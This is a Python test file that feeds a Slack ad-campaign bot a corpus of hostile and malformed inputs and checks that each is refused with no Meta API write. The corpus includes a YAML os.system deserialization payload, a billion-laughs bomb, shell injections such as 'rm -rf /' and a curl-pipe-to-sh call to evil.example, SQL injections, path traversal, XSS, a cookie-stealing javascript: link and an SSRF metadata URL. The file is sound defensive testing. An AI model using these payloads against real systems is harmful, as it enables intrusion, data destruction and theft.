"""A corpus of malformed and hostile inputs: each gets its own specific error and no Meta write.

The corpus is data, ``(where, input, expected words)``, so its size is visible and a new case is
one line. ``where`` is the surface the input arrives through:

- ``yaml``: a whole campaign file, as text, through ``python -m bot create``;
- ``field``: one field of an otherwise good campaign file, through ``python -m bot create``;
- ``modal``: one value of the create modal, forged past Slack's client-side checks;
- ``file``: the file attached in the modal (type, size, content);
- ``command``: the text after ``/campaign``.

Every case must exit or answer with the expected words, and Meta must receive no request at all.
Property-based tests of the same parsers are in ``test_properties.py``.
"""

from __future__ import annotations

import io
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from bot.cli import main
from handlers.ids import CampaignCreateBlock as B
from sandbox.graph_emulator import GraphEmulator
from tests.e2e.test_campaign_story import good_values, open_new_form
from tests.reliability.conftest import (
    BYSTANDER,
    CAMPAIGNS,
    REQUESTER,
    ROOT,
    World,
    campaign_body,
    meta_writes,
    world,
)

pytestmark = pytest.mark.reliability

VIDEO = (ROOT / "creatives" / "ainote2.mp4").read_bytes()
GOOD_YAML = yaml.safe_dump(campaign_body(), allow_unicode=True)
LOL = "".join(
    [
        "lol0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n",
        *(f"lol{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]\n" for n in range(1, 9)),
        "countries: *l8\n",
    ]
)


@dataclass(frozen=True)
class Upload:
    """A file a user attaches in the modal (what Slack stores and what its metadata claims)."""

    name: str
    content: bytes
    filetype: str | None = None
    mimetype: str | None = None


@dataclass(frozen=True)
class Case:
    where: str
    input: Any
    words: str

    def __str__(self) -> str:
        shown = repr(self.input)
        return f"{self.where}:{shown[:40]}"


def forged_option(value: str) -> dict[str, Any]:
    """A select option no modal offered: what a hand-crafted payload can send."""
    return {"text": {"type": "plain_text", "text": value[:75] or "x"}, "value": value}


CORPUS: list[Case] = [
    # --- whole YAML files -----------------------------------------------------------------
    Case("yaml", "!!python/object/apply:os.system ['touch /tmp/adbee-pwned']", "not valid YAML"),
    Case("yaml", GOOD_YAML + "x: !!python/name:os.system\n", "not valid YAML"),
    Case("yaml", GOOD_YAML + "y: !include /etc/passwd\n", "not valid YAML"),
    Case("yaml", GOOD_YAML + "name: twice\n", "appears twice"),
    Case("yaml", "- account\n- name\n", "expected a mapping"),
    Case("yaml", "", "expected a mapping"),
    Case("yaml", "name: [unclosed\n", "not valid YAML (line"),
    Case("yaml", b"name: \xff\xfe caf\xe9\n", "not a UTF-8 text file"),
    Case("yaml", GOOD_YAML + "# " + "x" * 300_000 + "\n", "larger than 256 KB"),
    Case("yaml", LOL, "aliases expand to more than"),
    Case("yaml", "countries: " + "[" * 1500 + "]" * 1500 + "\n", "nested too deeply"),
    Case("yaml", GOOD_YAML + "access_token: EAAB\n", "unknown field"),
    # --- one field of a campaign file ------------------------------------------------------
    Case("field", {"daily_budget": "50; rm -rf /"}, "is not a number"),
    Case("field", {"daily_budget": "NaN"}, "must be a finite number"),
    Case("field", {"daily_budget": -5}, "must be greater than zero"),
    Case("field", {"daily_budget": "50.001"}, "at most 2 decimal places"),
    Case("field", {"daily_budget": "1e999999999"}, "too large for a budget"),
    Case("field", {"daily_budget": True}, "must be a number"),
    Case("field", {"start_time": "$(reboot)"}, "is not a date and time"),
    Case("field", {"start_time": 99999999999999999999}, "not a usable date and time"),
    Case("field", {"start_time": "0001-01-01 00:00"}, "not a usable date and time"),
    Case("field", {"start_time": "2020-01-01 10:00"}, "in the past"),
    Case(
        "field",
        {"account": "iflytek-us", "countries": ["US"], "start_time": "2027-03-14 02:30"},
        "does not exist in America/Los_Angeles",
    ),
    Case("field", {"end_time": "2020-01-01 10:00"}, "at least 24 hours after the start"),
    Case("field", {"name": "\x1b[31mred alert"}, "contains control characters"),
    Case("field", {"name": "bad \ud83d half emoji"}, "contains an invalid character"),
    Case("field", {"name": "N" * 401}, "Meta allows at most 400"),
    Case("field", {"primary_text": "长" * 50_000}, "Meta allows at most 2200"),
    Case("field", {"headline": {"$ne": None}}, "must be text"),
    Case("field", {"link": "javascript:alert(document.cookie)"}, "not a web address"),
    Case("field", {"link": "https://169.254.169.254/latest/meta-data/"}, "not a public website"),
    Case("field", {"link": "https://shop.example.com/a b"}, "not a web address"),
    Case("field", {"link": "https://shop.example.com/" + "a" * 2000}, "Meta allows at most 1000"),
    Case("field", {"countries": ["SG; DROP TABLE campaigns"]}, "not a two-letter country code"),
    Case("field", {"countries": ["FR"]}, "needs regulation.dsa_beneficiary"),
    Case("field", {"call_to_action": "<script>alert(1)</script>"}, "unknown call to action"),
    Case("field", {"account": "../../etc/passwd"}, "unknown account"),
    Case("field", {"account": "iflytek-sg' OR '1'='1"}, "unknown account"),
    Case("field", {"video": "/etc/passwd"}, "not a video"),
    Case("field", {"video": "creatives/../README.md"}, "not a video"),
    Case("field", {"video": "creatives/ainote2.mp4\x00.txt"}, "not a usable file path"),
    Case("field", {"video": "v" * 5000 + ".mp4"}, "not a usable file path"),
    Case("field", {"video": "creatives"}, "file not found"),
    # --- the create modal, values forged past the Slack client ------------------------------
    Case("modal", {B.DAILY_BUDGET: "fifty dollars"}, "is not a number"),
    Case("modal", {B.DAILY_BUDGET: "0.5"}, "below Meta's minimum"),
    Case("modal", {B.DAILY_BUDGET: "1000000"}, "above this account's limit"),
    Case("modal", {B.LINK: "<!channel> https://evil.example"}, "not a web address"),
    Case("modal", {B.LINK: "http://localhost:8080/admin"}, "not a public website"),
    Case("modal", {B.NAME: "A" * 5000}, "Meta allows at most 400"),
    Case("modal", {B.HEADLINE: "\u202egnp.exe\u202c" + "H" * 300}, "Meta allows at most 255"),
    Case("modal", {B.PRIMARY_TEXT: "broken \udfff surrogate"}, "contains an invalid character"),
    Case("modal", {B.ACCOUNT: forged_option("act_999'; DROP TABLE--")}, "unknown account"),
    Case("modal", {B.COUNTRIES: [forged_option("XX")]}, "not a two-letter country code"),
    Case("modal", {B.CALL_TO_ACTION: forged_option("FREE_MONEY")}, "unknown call to action"),
    Case("modal", {B.START_TIME: "not-a-timestamp"}, "is not a date and time"),
    Case("modal", {B.START_TIME: 10**20}, "is not a date and time"),
    Case("modal", {B.START_TIME: 946684800}, "in the past"),
    # --- the attached file ------------------------------------------------------------------
    Case("file", Upload("brief.pdf", b"%PDF-1.4 ...", "pdf", "application/pdf"), "not a video"),
    Case(
        "file",
        Upload("clip.webm", b"\x1aE\xdf\xa3" + b"\0" * 64, "webm", "video/webm"),
        "probably damaged",
    ),
    Case("file", Upload("empty.mp4", b"", "mp4", "video/mp4"), "is empty"),
    Case("file", [Upload("a.mp4", VIDEO, "mp4", "video/mp4")] * 2, "a.mp4 is attached twice"),
    Case("file", [], "Attach the ad video"),
    Case("file", Upload("ad.mp4", b"PK\x03\x04" + b"x" * 500, "mp4", "video/mp4"), "ZIP"),
    Case(
        "file",
        Upload("ad.mp4", b"<html><script>alert(1)</script></html>", "mp4", "video/mp4"),
        "not a video",
    ),
    Case("file", Upload("half.mp4", VIDEO[: len(VIDEO) // 2], "mp4", "video/mp4"), "is incomplete"),
    Case("file", Upload("huge.mp4", VIDEO, "mp4", "video/mp4"), "the limit is 48.8 KB"),
    # --- /campaign command text ---------------------------------------------------------------
    Case("command", "approve 1; DROP TABLE campaigns", "I don't know `approve`"),
    Case("command", "pause <!channel>", "`pause` needs one campaign number"),
    Case("command", "activate 99999999999999999999999", "`activate` needs one campaign number"),
    Case("command", "reschedule 1", "`reschedule` needs a campaign number and a time"),
    Case("command", "cancel 0", "`cancel` needs one campaign number"),
    Case("command", "Ā" * 10_000, "I don't know"),
    Case("command", "status ' OR 1=1 --", "No campaign matches"),
    Case("command", "list ../../etc passwd", "`list` takes one account key"),
    Case("command", "\u202eresume 1", "No campaign #1"),
    Case("command", "reschedule 1 $(curl evil.example|sh)", "No campaign #1"),
]
HUGE_LIMIT = 50_000  # the "huge.mp4" case: the download cap is lowered to this many bytes


def test_the_corpus_is_large_and_covers_every_surface() -> None:
    assert len(CORPUS) >= 40
    assert {c.where for c in CORPUS} == {"yaml", "field", "modal", "file", "command"}
    print(f"\nbad-input corpus: {len(CORPUS)} inputs")


# ------------------------------------------------------------------------- files and fields
FILE_CASES = [c for c in CORPUS if c.where in ("yaml", "field")]


@pytest.mark.usefixtures("meta_env")
@pytest.mark.parametrize("case", FILE_CASES, ids=str)
def test_a_bad_campaign_file_is_refused_by_name_with_no_meta_write(
    case: Case, graph: GraphEmulator, tmp_path: Path
) -> None:
    path = tmp_path / "campaign.yaml"
    if case.where == "yaml":
        if isinstance(case.input, bytes):
            path.write_bytes(case.input)
        else:
            path.write_text(case.input, encoding="utf-8", errors="surrogatepass")
    else:
        # JSON is YAML; half surrogates are written as "\ud83d" escapes, as a JSON export would.
        text = json.dumps(campaign_body(**case.input), ensure_ascii=False)
        path.write_text(re.sub("[\ud800-\udfff]", lambda m: f"\\u{ord(m[0]):04x}", text))
    out = io.StringIO()
    code = main(["create", str(path)], out=out)
    text = out.getvalue()
    assert code == 1, text
    assert case.words in text, text
    assert "nothing was uploaded to or created in Meta" in text
    # The only call a refused file may cost is the read of Meta's own minimum budget.
    reads = [r for r in graph.requests if not r.path.endswith("/minimum_budgets")]
    assert meta_writes(graph) == [] and reads == []


# ------------------------------------------------------------------------------------ Slack
SLACK_CASES = [c for c in CORPUS if c.where in ("modal", "file", "command")]


@pytest.fixture(scope="module")
def slack_world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with world(tmp_path_factory.mktemp("bad-input")) as here:
        yield here


@pytest.fixture
def here(slack_world: World, monkeypatch: pytest.MonkeyPatch) -> World:
    import bot.slack.creation_flow
    import bot.slack.files

    monkeypatch.chdir(ROOT)
    download = bot.slack.files.download_slack_file
    monkeypatch.setattr(
        bot.slack.creation_flow,
        "download_slack_file",
        lambda *a, **kw: download(*a, **{**kw, "max_bytes": HUGE_LIMIT}),
    )
    slack_world.graph.clear_requests()
    return slack_world


def _open_form(here: World) -> dict:
    return open_new_form(here.slack, REQUESTER)


def _attach(here: World, upload: Upload) -> str:
    return here.slack.upload_file(
        user=REQUESTER,
        filename=upload.name,
        content=upload.content,
        filetype=upload.filetype,
        mimetype=upload.mimetype,
    )


def _refusal(here: World, view_id: str, words: str) -> str | None:
    """The asynchronous refusal (after the download): the modal again, and the channel message."""
    view = json.dumps(here.slack.view(view_id), ensure_ascii=False)
    posted = " ".join(m.get("text", "") for m in here.slack.messages(CAMPAIGNS))
    if "Not created:" in view and "Not created" in posted:
        return view
    return None


@pytest.mark.parametrize("case", SLACK_CASES, ids=str)
def test_bad_slack_input_gets_a_specific_answer_and_no_meta_write(case: Case, here: World) -> None:
    slack = here.slack
    if case.where == "command":
        user = BYSTANDER
        seen = len(slack.ephemerals(user))
        ack = slack.slash_command(
            user=user, channel=CAMPAIGNS, command="/campaign", text=case.input
        )
        answer = json.dumps(ack or {}, ensure_ascii=False)
        if case.words not in answer:  # state changes answer through response_url

            def later() -> str | None:
                text = json.dumps(slack.ephemerals(user)[seen:], ensure_ascii=False)
                return text if case.words in text else None

            answer = slack.wait_until(later, timeout=5) or answer
        assert case.words in answer, answer
        assert meta_writes(here.graph) == []
        return

    view = _open_form(here)
    video = _attach(here, Upload("ainote2.mp4", VIDEO, "mp4", "video/mp4"))
    values: dict[Any, Any] = good_values(video)
    values[B.NAME] = f"Hostile input {len(slack.messages(CAMPAIGNS))}"
    if case.where == "modal":
        values.update(case.input)
    else:
        uploads = case.input if isinstance(case.input, list) else [case.input]
        values[B.VIDEO] = [_attach(here, u) for u in uploads]
    ack = slack.submit_view(user=REQUESTER, view_id=view["id"], values=values, enforce_ui=False)
    if ack and ack.get("response_action") == "errors":
        answer = json.dumps(ack["errors"], ensure_ascii=False)
    else:  # accepted for download: the content check refuses it in the modal and the channel
        # The download and the content check run in the creation pool: on a loaded CI machine
        # that took over 10 s once (a clean run), so the wait is for the refusal, not a speed.
        answer = slack.wait_until(
            lambda: _refusal(here, view["id"], case.words), timeout=30, interval=0.05
        )
    assert case.words in answer, answer
    assert meta_writes(here.graph) == []
    assert here.bot is not None and here.bot.services.store.list_campaigns() == []


def test_markup_in_a_campaign_name_never_pings_the_channel_or_disguises_a_link(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A legal name full of Slack markup: created as typed, but shown as text everywhere."""
    monkeypatch.chdir(ROOT)
    name = "<!channel> Sale <https://evil.example|shop.example.com> <@U_BOB> & <!here>"
    with world(tmp_path) as here:
        slack = here.slack
        view = _open_form(here)
        values: dict[Any, Any] = good_values(
            _attach(here, Upload("a.mp4", VIDEO, "mp4", "video/mp4"))
        )
        values[B.NAME] = name
        slack.submit_view(user=REQUESTER, view_id=view["id"], values=values)
        slack.wait_until(
            lambda: any("Approval needed" in str(m) for m in slack.messages(CAMPAIGNS)), timeout=15
        )
        slack.wait_until(  # and the progress message's last edit, pointing at the card
            lambda: any(
                "approval card is below" in m.get("text", "") for m in slack.messages(CAMPAIGNS)
            ),
            timeout=10,
        )
        # Meta gets the name as typed, inside the account's naming template (docs/creative-controls.md)
        assert name in here.graph.objects("campaign")[0]["name"]
        shown: list[str] = []  # what Slack parses as markup: message text and mrkdwn objects
        for message in slack.messages(CAMPAIGNS, include_replies=True):
            for version in slack.message_history(CAMPAIGNS, message["ts"]):
                shown.append(str(version.get("text", "")))
                shown.extend(_mrkdwn_texts(version.get("blocks") or []))
        for ephemeral in slack.ephemerals(REQUESTER):
            shown.append(str(ephemeral.get("text", "")))
        text = "\n".join(shown)
        for markup in ("<!channel>", "<!here>", "<https://evil.example", "<@U_BOB>"):
            where = text.find(markup)
            assert where < 0, (markup, text[max(0, where - 200) : where + 100])
        assert "&lt;!channel&gt;" in text


def _mrkdwn_texts(node: object) -> list[str]:
    if isinstance(node, dict):
        found = [str(node["text"])] if node.get("type") == "mrkdwn" else []
        return found + [t for value in node.values() for t in _mrkdwn_texts(value)]
    if isinstance(node, list):
        return [t for item in node for t in _mrkdwn_texts(item)]
    return []
